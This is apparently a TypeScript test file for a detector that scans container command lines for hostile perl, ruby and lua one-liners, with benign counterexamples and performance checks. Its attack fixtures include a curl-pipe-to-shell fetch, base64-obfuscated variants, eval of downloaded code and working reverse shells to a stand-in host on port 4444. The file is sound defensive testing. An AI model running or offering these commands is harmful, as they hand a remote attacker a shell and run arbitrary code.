import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateRawSync, inflateRawSync } from 'node:zlib';
import { growth } from '../../lib/testing.ts';
import { effectsOf } from '../effects.ts';
import { readCode } from './generic.ts';
import { actOf, LOUD } from './testing.ts';

const actsOf = (argv: readonly string[]): readonly string[] =>
  effectsOf({
    commands: [
      {
        container: 'main',
        role: 'container',
        pointer: '/x',
        carrier: 'command',
        argv,
        entrypoint: null,
        shown: argv.join(' ').slice(0, 200),
        script: null,
      },
    ],
    hostPaths: [],
    environment: [],
    mounts: [],
  }).map(actOf);

const FETCH = 'curl -s http://203.0.113.7/x | sh';
const ATTACKS: Readonly<Record<string, readonly [argv: readonly string[], wanted: RegExp]>> = {
  'perl: a shell text': [['perl', '-e', `system("${FETCH}")`], /^execute downloaded/],
  'perl: a text in brackets of its own': [['perl', '-e', `print qx{${FETCH}}`], /^execute downloaded/],
  'perl: a text in other brackets': [['perl', '-e', `system(q(${FETCH}))`], /^execute downloaded/],
  'perl: a list of words': [['perl', '-e', `exec(qw(sh -c), '${FETCH}')`], /^execute downloaded/],
  'perl: a module as an option, and code in base64': [
    ['perl', '-MMIME::Base64', '-e', `eval decode_base64("${btoa(`system("${FETCH}")`)}")`],
    /^execute downloaded/,
  ],
  'perl: a module as an option, and a download': [
    ['perl', '-MLWP::Simple', '-e', 'eval get("http://203.0.113.7/p")'],
    /^execute downloaded/,
  ],
  'perl: a module as an option, and a socket': [
    [
      'perl',
      '-MIO::Socket::INET',
      '-e',
      '$c=new IO::Socket::INET(PeerAddr,"203.0.113.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);exec "/bin/sh"',
    ],
    /^shell for/,
  ],
  'ruby: a text in brackets of its own': [['ruby', '-e', `puts %x(${FETCH})`], /^execute downloaded/],
  'ruby: code in base64': [
    ['ruby', '-rbase64', '-e', `eval(Base64.decode64("${btoa(`system("${FETCH}")`)}"))`],
    /^execute downloaded/,
  ],
  'ruby: a download that is run': [
    ['ruby', '-rnet/http', '-e', 'eval Net::HTTP.get(URI("http://203.0.113.7/p"))'],
    /^execute downloaded/,
  ],
  'ruby: a module as an option, and a socket': [
    [
      'ruby',
      '-rsocket',
      '-e',
      'c=TCPSocket.new("203.0.113.7",4444);while(l=c.gets);IO.popen(l,"r"){|o|c.print o.read}end',
    ],
    /^shell for/,
  ],
  'lua: a shell text': [['lua', '-e', `os.execute("${FETCH}")`], /^execute downloaded/],
};
for (const [name, [argv, wanted]] of Object.entries(ATTACKS)) {
  test(name, () => {
    const found = actsOf(argv);
    assert.ok(
      found.some((act) => wanted.test(act)),
      found.join('\n'),
    );
  });
}

const BENIGN: Readonly<Record<string, readonly string[]>> = {
  'perl: lines that are changed': ['perl', '-pi', '-e', 's/a/b/g', '/data/a.conf'],
  'perl: a quoted list': ['perl', '-e', 'print join(",", qw(a b c))'],
  'perl: data that is decoded': ['perl', '-MMIME::Base64', '-e', 'print decode_base64("aGVsbG8=")'],
  'ruby: a report': ['ruby', '-rjson', '-e', 'puts JSON.parse(File.read("/data/a.json"))["name"]'],
  'ruby: a port that is waited for': ['ruby', '-rsocket', '-e', 'TCPSocket.new("db", 5432).close'],
  'ruby: a download that is read': [
    'ruby',
    '-ropen-uri',
    '-e',
    'puts URI.open("https://example.com/a").read.lines.size',
  ],
};
for (const [name, argv] of Object.entries(BENIGN)) {
  test(`stays silent: ${name}`, () => {
    assert.deepEqual(
      actsOf(argv).filter((act) => LOUD.test(act)),
      [],
    );
  });
}

for (const piece of ['qx{', 'q(', '%x(', 'eval get ', 'TCPSocket gets popen(a,']) {
  test(`linear on ${JSON.stringify(piece)}`, () => {
    const ratio = growth((size) => actsOf(['perl', '-e', piece.repeat(size / piece.length)]), 20_000);
    assert.ok(ratio < 12, `four times the text took ${ratio.toFixed(1)} times as long`);
  });
}

test('code that unpacks to more than is read is said, and code that unpacks to less is not', () => {
  const unpacking = (size: number): string =>
    `eval gzinflate("${deflateRawSync('a'.repeat(size)).toString('latin1').replaceAll(/./gs, escaped)}")`;
  const inflate = (bytes: Uint8Array): Uint8Array => inflateRawSync(bytes);
  const small = readCode(unpacking(1000), inflate);
  assert.deepEqual([small.layers, small.isCut], [['gzip'], false]);
  assert.equal(readCode(unpacking(300_000), inflate).isCut, true);
  assert.equal(readCode('a'.repeat(300_000), inflate).isCut, true);
});
const escaped = (sign: string): string => `\\x${sign.charCodeAt(0).toString(16).padStart(2, '0')}`;
